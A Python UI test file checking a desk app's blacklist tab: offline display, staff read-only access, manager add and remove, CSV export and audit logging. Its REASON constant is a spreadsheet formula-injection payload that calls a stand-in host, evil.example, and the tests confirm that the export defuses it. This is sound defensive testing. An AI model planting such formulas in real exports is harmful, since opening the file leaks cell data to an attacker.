"""The Blacklist tab: from the cache with its "as of" (offline too), searchable, read-only for
staff; managers add (reason required), remove and export a guarded CSV; the audit log shows it.

One coroutine per scenario against the loopback sandbox (see tests/ui/editing/helpers.py).
"""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import qasync
from PySide6.QtCore import Qt
from PySide6.QtGui import QTextDocument
from pytestqt.qtbot import QtBot

from app.domain.text import fold
from app.sandbox.faults import Faults
from app.sandbox.runner import ThreadedSandbox
from app.vendors.reservations import ReservationsClient
from tests.ui.conftest import run, until
from tests.ui.editing.helpers import BLACKLISTED, OTHER, EditDesk, edit_desk
from ui.editing.blacklist_view import BlacklistView

REASON = '=HYPERLINK("http://evil.example/?"&A1,"click") <b>loud</b>'


def view_of(desk: EditDesk) -> BlacklistView:
    view = desk.window.blacklist_view
    assert view is not None
    return view


def blacklisted_on_server(desk: EditDesk) -> dict[str, str]:
    async def read(client: ReservationsClient) -> dict[str, str]:
        return {row.id: row.blacklist_reason or "" for row in await client.blacklisted()}

    result: dict[str, str] = desk.on_reservations(read)
    return result


def test_the_blacklist_works_offline_with_its_as_of_search_and_is_read_only_for_staff(
        qtbot: QtBot, qloop: qasync.QEventLoop, edit_vendors: ThreadedSandbox,
        edit_synced: Any, tmp_path: Path) -> None:
    async def scenario() -> None:
        async with edit_desk(qtbot, edit_vendors, edit_synced, tmp_path) as desk:
            edit_vendors.call(edit_vendors.sandbox.stop())  # every vendor is down
            report = await desk.engine.run()  # a sync that finds them down
            assert not report.ok
            view = view_of(desk)
            qtbot.keyClick(desk.window.focusWidget() or desk.window, Qt.Key.Key_B,
                           Qt.KeyboardModifier.ControlModifier)
            assert desk.window.tabs.currentWidget() is view and view.search.hasFocus()
            await view.idle()
            assert view.as_of.text().startswith("⚠ reservations offline since ")
            assert "showing the blacklist as of " in view.as_of.text()
            expected = desk.query("SELECT name, blacklist_reason FROM records WHERE "
                                  "vendor = 'reservations' AND blacklisted = 1")
            assert len(expected) > 3
            assert sorted(view.shown_names()) == sorted(r[0] for r in expected)
            assert view.count.text() == f"{len(expected)} entry(ies)"
            person = desk.person(BLACKLISTED)
            row = view.shown_names().index(person.full_name)
            assert view.model.text(row, 2) == person.blacklist_reason
            assert "@" in view.model.text(row, 1) and "•" in view.model.text(row, 1)  # masked

            # The search filters as you type: a name (accents ignored), or a reason.
            qtbot.keyClicks(view.search, "priya hernandez")
            assert view.shown_names() == [person.full_name]
            assert view.count.text() == f"1 of {len(expected)} entry(ies) shown"
            view.search.clear()
            qtbot.keyClicks(view.search, "SHOPLIFTING")
            shoplifters = [r for r in expected if "shoplifting" in fold(r[1])]
            assert len(view.shown_names()) == len(shoplifters) > 0

            # Staff read it: no add, remove or export, and asking anyway changes nothing.
            assert view.read_only.isVisible() and view.unlock_button.isVisible()
            for button in (view.add_button, view.remove_button, view.export_button):
                assert not button.isVisible()
            view.open_add()
            assert view.form.isHidden()
            assert view.message.text().startswith("Only managers change or export")
            view.export_to(tmp_path / "staff.csv")
            await view.idle()
            assert not (tmp_path / "staff.csv").exists()
            assert await desk.audit_actions() == []

    run(qloop, scenario(), timeout=60)


def test_a_manager_adds_with_a_reason_removes_and_exports_a_guarded_csv(
        qtbot: QtBot, qloop: qasync.QEventLoop, edit_vendors: ThreadedSandbox,
        edit_synced: Any, tmp_path: Path) -> None:
    async def scenario() -> None:
        async with edit_desk(qtbot, edit_vendors, edit_synced, tmp_path) as desk:
            view = view_of(desk)
            person = desk.person(OTHER)
            rid = person.reservations_id
            assert rid is not None and rid not in blacklisted_on_server(desk)
            await desk.unlock()
            desk.window.show_blacklist()
            await view.idle()
            assert view.add_button.isVisible() and not view.read_only.isVisible()

            view.add_button.click()
            assert view.form.isVisible()
            hits = await view.picker.search(person.full_name)
            assert hits and hits[0].name == person.full_name
            qtbot.keyClick(view.picker.box, Qt.Key.Key_Return)  # pick the first
            assert view.chosen is not None and view.chosen.name == person.full_name
            qtbot.keyClicks(view.reason, "   ")
            qtbot.keyClick(view.reason, Qt.Key.Key_Return)
            await view.idle()
            assert view.message.text() == "A blacklist entry needs a reason: say what happened."
            assert await desk.open_edits() == [] and view.form.isVisible()

            desk.vendors.sandbox.servers["reservations"].faults = Faults(latency_ms=600)
            view.reason.setText(REASON)
            view.confirm_add.click()
            await view.idle()
            row = view.shown_names().index(person.full_name)
            assert view.model.text(row, 2) == REASON  # markup shown as typed
            assert view.model.text(row, 4) == "pending"
            tip = QTextDocument()  # the tooltip, as Qt renders it: the same text, literally
            tip.setHtml(str(view.model.data(view.model.index(row, 2),
                                            Qt.ItemDataRole.ToolTipRole)))
            assert tip.toPlainText() == REASON
            await desk.settled()
            desk.vendors.sandbox.servers["reservations"].faults = Faults()
            assert blacklisted_on_server(desk)[rid] == REASON
            await view.idle()
            row = view.shown_names().index(person.full_name)
            assert view.model.text(row, 4) == "confirmed"

            # Export: the whole list (not just what the search shows) in the command line's
            # columns, formula cells defused, no contacts, written whole, audited.
            qtbot.keyClicks(view.search, person.full_name)
            assert view.shown_names() == [person.full_name]
            target = tmp_path / "export" / "blacklist.csv"
            target.parent.mkdir()
            view.export_to(target)
            await view.idle()
            with target.open(encoding="utf-8-sig", newline="") as handle:
                rows = list(csv.DictReader(handle))
                handle.seek(0)
                header = next(csv.reader(handle))
            assert header == ["who", "reason", f"since ({desk.profile.store.timezone})",
                              "pending", "customer_id", "reservations_id"]
            assert len(rows) == len(view.model.entries) > 1
            mine = next(r for r in rows if r["reservations_id"] == rid)
            assert mine["reason"] == "'" + REASON and mine["who"] == person.full_name
            assert mine["customer_id"] == str(desk.customer_id(person))
            emails = json.loads(desk.query("SELECT emails FROM records WHERE vendor = "
                                           "'reservations' AND vendor_id = ?", rid)[0][0])
            assert emails and not any(e in target.read_text("utf-8-sig") for e in emails)
            assert sorted(p.name for p in target.parent.iterdir()) == ["blacklist.csv"]
            assert view.message.text().startswith(f"Exported {len(rows)} entry(ies) to ")
            assert "the search does not filter exports" in view.message.text()
            [(subject, detail)] = desk.query("SELECT subject, detail FROM audit WHERE action = "
                                             "'blacklist.export'")
            assert subject == str(target.resolve())
            assert json.loads(detail)["entries"] == len(rows)
            view.search.clear()

            # Remove: asked inline first, then pending, then gone upstream.
            view.view.setCurrentIndex(view.model.index(row, 0))
            view.remove_button.click()
            assert view.remove_confirm.isVisible()
            assert person.full_name in view.remove_text.text()
            view.remove_yes.click()
            await view.idle()
            await desk.settled()
            assert rid not in blacklisted_on_server(desk)
            await view.idle()
            assert person.full_name not in view.shown_names()
            assert await desk.audit_actions() == ["blacklist.add", "blacklist.export",
                                                  "blacklist.remove"]

            # The audit tab, managers only, newest first.
            audit = desk.window.audit_view
            assert audit is not None
            desk.window.tabs.setCurrentWidget(audit)
            await audit.idle()
            assert [audit.model.text(r, 3) for r in range(3)] == [
                "blacklist.remove", "blacklist.export", "blacklist.add"]
            assert audit.model.text(0, 2) == "manager" and audit.model.text(0, 1) == "till-test"
            assert desk.window.gate is not None
            desk.window.gate.lock_now()
            assert audit.model.rowCount() == 0 and audit.locked.isVisible()
            await until(lambda: not view.add_button.isVisible())

    run(qloop, scenario(), timeout=60)


def test_several_records_are_picked_by_the_manager_and_a_listed_one_gets_the_new_reason(
        qtbot: QtBot, qloop: qasync.QEventLoop, edit_vendors: ThreadedSandbox,
        edit_synced: Any, tmp_path: Path) -> None:
    """The core's rule (app/cache/blacklist.py) in the window: no silent pick among a
    customer's reservations records, and adding someone listed replaces the reason."""
    async def scenario() -> None:
        async with edit_desk(qtbot, edit_vendors, edit_synced, tmp_path) as desk:
            view = view_of(desk)
            person, other = desk.person(OTHER), desk.person(12)
            rid, other_rid = person.reservations_id, other.reservations_id
            assert rid is not None and other_rid is not None
            # A manager linked the two as duplicates: one customer, two reservations records.
            await desk.engine.worker.run(lambda writer: writer.set_manual(
                ("reservations", rid), ("reservations", other_rid), "link"))
            assert desk.customer_id(person) == desk.customer_id(other)
            await desk.unlock()
            desk.window.show_blacklist()
            await view.idle()

            async def pick() -> None:
                view.add_button.click()
                hits = await view.picker.search(person.full_name)
                assert hits[0].customer_id == desk.customer_id(person)
                qtbot.keyClick(view.picker.box, Qt.Key.Key_Return)
                await view.idle()

            await pick()
            assert view.record_box.isVisible() and view.record_box.currentIndex() == -1
            assert view.record_box.count() == 2
            assert "2 reservations records: choose the one" in view.chosen_label.text()
            view.reason.setText("Rude")
            view.confirm_add.click()  # nothing picked yet: refused, nothing queued
            await view.idle()
            assert "has 2 reservations records" in view.message.text()
            assert "Choose it in the list under the customer." in view.message.text()
            assert await desk.open_edits() == [] and view.form.isVisible()

            texts = [view.record_box.itemText(k) for k in range(2)]
            chosen = next(k for k, t in enumerate(texts) if t.endswith(f"reservations:{other_rid}"))
            view.record_box.setCurrentIndex(chosen)
            view.confirm_add.click()
            await view.idle()
            assert view.message.text().endswith("pending until reservations confirms it.")
            # Queued (and perhaps already sent: the outbox sends at once): one edit, that record.
            queued = await desk.engine.worker.run(lambda writer: writer.conn.execute(
                "SELECT kind, json_extract(payload, '$.customer_id') FROM outbox").fetchall())
            assert queued == [("blacklist.add", other_rid)]
            await desk.settled()
            assert blacklisted_on_server(desk)[other_rid] == "Rude"
            assert rid not in blacklisted_on_server(desk)

            # Again for the listed record: the new reason replaces the old one, audited so.
            await pick()
            listed = next(k for k in range(2)
                          if view.record_box.itemText(k).endswith("on the blacklist: Rude"))
            view.record_box.setCurrentIndex(listed)
            view.reason.setText("Threatened staff")
            view.confirm_add.click()
            await view.idle()
            assert "was already on the blacklist: the reason is replaced" in \
                view.message.text()
            await desk.settled()
            assert blacklisted_on_server(desk)[other_rid] == "Threatened staff"
            details = [json.loads(d) for (d,) in desk.query(
                "SELECT detail FROM audit WHERE action = 'blacklist.add' ORDER BY id")]
            assert [d.get("previous_reason") for d in details] == [None, "Rude"]
            assert details[1]["already_listed"] is True

            # The same reason once more changes nothing.
            await pick()
            view.record_box.setCurrentIndex(listed)
            view.reason.setText("Threatened  staff")
            view.confirm_add.click()
            await view.idle()
            assert "already on the blacklist for that reason; nothing was changed" in \
                view.message.text()
            assert await desk.audit_actions() == ["blacklist.add", "blacklist.add"]

    run(qloop, scenario(), timeout=60)
